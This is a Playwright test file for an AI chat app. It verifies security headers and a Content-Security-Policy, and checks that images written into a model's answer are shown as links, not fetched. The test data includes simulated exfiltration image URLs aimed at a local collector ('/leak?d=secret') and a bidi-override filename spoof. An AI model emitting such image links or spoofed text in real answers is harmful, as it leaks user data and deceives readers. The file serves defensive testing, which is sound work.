import { createServer, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import { expect, type Page, test } from "@playwright/test";
import { ChatPage } from "./pages/chat-page";
import { fakeOllama } from "./support/fake-ollama";
import { APP_ACCOUNTS_URL, FAKE_WEB_URL } from "./support/servers";
import { unique } from "./support/unique";

/**
 * Nothing leaks through answers: a model (or a page it read) that writes an image pointing at
 * another host must not make the browser fetch it. A loopback "collector" records every request.
 */
let collector: Server;
let collectorUrl: string;
const collected: string[] = [];

test.beforeAll(async () => {
  collector = createServer((req, res) => {
    collected.push(req.url ?? "");
    res.writeHead(200, { "content-type": "image/gif" }).end(Buffer.from("R0lGODlhAQABAAAAACw=", "base64"));
  });
  await new Promise<void>((resolve) => collector.listen(0, "127.0.0.1", resolve));
  collectorUrl = `http://127.0.0.1:${(collector.address() as AddressInfo).port}`;
});

test.afterAll(async () => {
  collector.closeAllConnections();
  await new Promise<void>((resolve) => collector.close(() => resolve()));
});

test.beforeEach(async () => {
  await fakeOllama.reset();
  collected.length = 0;
});

/** Console errors and uncaught exceptions: a policy that blocks what the app needs shows up here. */
function watchErrors(page: Page): string[] {
  const errors: string[] = [];
  page.on("console", (message) => {
    if (message.type() === "error") errors.push(message.text());
  });
  page.on("pageerror", (error) => errors.push(error.message));
  return errors;
}

/** Every Content-Security-Policy violation of the page's documents, as "directive blocked-url". */
async function watchViolations(page: Page): Promise<() => Promise<string[]>> {
  await page.addInitScript(() => {
    const seen: string[] = [];
    Object.assign(window, { __violations: seen });
    document.addEventListener("securitypolicyviolation", (event) => {
      seen.push(`${event.effectiveDirective} ${event.blockedURI}`);
    });
  });
  return () => page.evaluate(() => (window as unknown as { __violations: string[] }).__violations);
}

test("every page carries a Content-Security-Policy with a fresh nonce and the usual security headers", async ({
  request,
}) => {
  const nonces = new Set<string>();
  for (const path of ["/", "/settings", "/c/00000000-0000-4000-8000-000000000000"]) {
    const response = await request.get(path);
    const headers = response.headers();
    const policy = headers["content-security-policy"] ?? "";
    const directives = new Map(
      policy.split(";").map((d) => {
        const [name = "", ...values] = d.trim().split(/\s+/);
        return [name, values] as const;
      }),
    );
    expect(directives.get("img-src"), path).toEqual(["'self'", "data:", "blob:"]);
    expect(directives.get("connect-src"), path).toEqual(["'self'"]);
    expect(directives.get("frame-ancestors"), path).toEqual(["'none'"]);
    expect(directives.get("object-src"), path).toEqual(["'none'"]);
    const scripts = directives.get("script-src") ?? [];
    expect(scripts, path).not.toContain("'unsafe-inline'");
    expect(scripts, path).not.toContain("'unsafe-eval'");
    const nonce = scripts.find((s) => s.startsWith("'nonce-"));
    expect(nonce, path).toBeTruthy();
    nonces.add(nonce ?? "");
    // Next.js put the same nonce on the scripts it rendered.
    expect(await response.text()).toContain(`nonce="${nonce?.slice(7, -1)}"`);
    expect(headers["x-content-type-options"], path).toBe("nosniff");
    expect(headers["x-frame-options"], path).toBe("DENY");
    expect(headers["referrer-policy"], path).toBe("same-origin");
  }
  expect(nonces.size).toBe(3);
  const api = await request.get("/api/health");
  expect(api.headers()["x-content-type-options"]).toBe("nosniff");
});

test("the app runs under its policy: start screen, a conversation with a tool card, settings, admin, sign-in", async ({
  page,
}) => {
  const errors = watchErrors(page);
  const violations = await watchViolations(page);
  const chat = new ChatPage(page);
  await page.emulateMedia({ colorScheme: "dark" });
  await chat.open("/");
  await chat.modelPicker.click();
  await expect(page.getByRole("option").first()).toBeVisible();
  await page.keyboard.press("Escape");
  expect(await violations()).toEqual([]);

  await fakeOllama.script({
    when: { hasTools: true },
    toolCalls: [{ name: "scrape_url", arguments: { url: `${FAKE_WEB_URL}/quokka.html` } }],
  });
  await chat.startConversation(unique("What is a quokka?"));
  await chat.expectAnswerDone();
  await chat.openTrail();
  await chat.toolCard("scrape_url").getByTestId("tool-card-toggle").click();
  await expect(chat.toolCard("scrape_url").getByTestId("tool-observation")).toBeVisible();
  expect(await violations()).toEqual([]);

  for (const path of ["/settings", "/admin", `${APP_ACCOUNTS_URL}/login`]) {
    await page.goto(path);
    await expect(page.locator("h1").first()).toBeVisible();
    expect(await violations(), path).toEqual([]);
  }
  expect(errors).toEqual([]);
});

test("a remote image in an answer, Markdown or raw <img>, loads nothing and shows a link with its URL", async ({
  page,
}) => {
  const errors = watchErrors(page);
  const chat = new ChatPage(page);
  const markdownImage = `${collectorUrl}/leak?d=secret`;
  const rawImage = `${collectorUrl}/raw?d=secret`;
  await fakeOllama.script({
    when: { stream: true },
    content: [
      `Here is the chart: ![chart](${markdownImage})`,
      "",
      `<img src="${rawImage}" alt="raw">`,
      "",
      "```ts",
      "const answer = 42;",
      "```",
    ].join("\n"),
  });
  await chat.startConversation(unique("Show me the chart"));
  await chat.expectAnswerDone();

  const answer = chat.lastAnswer.getByTestId("answer-text");
  const links = answer.getByTestId("answer-image-link");
  await expect(links).toHaveCount(2);
  await expect(links.nth(0)).toHaveAttribute("href", markdownImage);
  await expect(links.nth(0)).toContainText(markdownImage);
  await expect(links.nth(1)).toHaveAttribute("href", rawImage);
  await expect(answer.locator("img")).toHaveCount(0);
  // Code highlighting still works under the policy.
  await expect(answer.locator("pre").getByText("42")).toBeVisible();

  await page.reload();
  await chat.expectAnswerDone();
  await expect(chat.lastAnswer.getByTestId("answer-image-link")).toHaveCount(2);
  await expect(chat.lastAnswer.getByTestId("answer-text").locator("img")).toHaveCount(0);
  // Nothing the app needs was refused: hydration, the theme script (allowed by its hash), highlighting.
  expect(errors).toEqual([]);

  // The policy is the second wall: an image that did reach the page is refused, not fetched.
  const violated = await page.evaluate(
    (src) =>
      new Promise<string>((resolve) => {
        document.addEventListener("securitypolicyviolation", (event) => resolve(event.effectiveDirective), {
          once: true,
        });
        const img = document.createElement("img");
        img.src = src;
        document.body.append(img);
      }),
    `${collectorUrl}/injected?d=secret`,
  );
  expect(violated).toBe("img-src");
  expect(collected).toEqual([]);
});

test("bidi overrides in a model answer never reach the page", async ({ page }) => {
  const chat = new ChatPage(page);
  await fakeOllama.script({ when: { stream: true }, content: "Open invoice\u202Efdp.exe and \u2066this\u2069 one." });
  await chat.startConversation(unique("Which file?"));
  await chat.expectAnswerDone();
  const text = await chat.lastAnswer.getByTestId("answer-text").textContent();
  expect(text).toContain("Open invoicefdp.exe and this one.");
  expect(text).not.toMatch(/[\u202a-\u202e\u2066-\u2069]/);
});
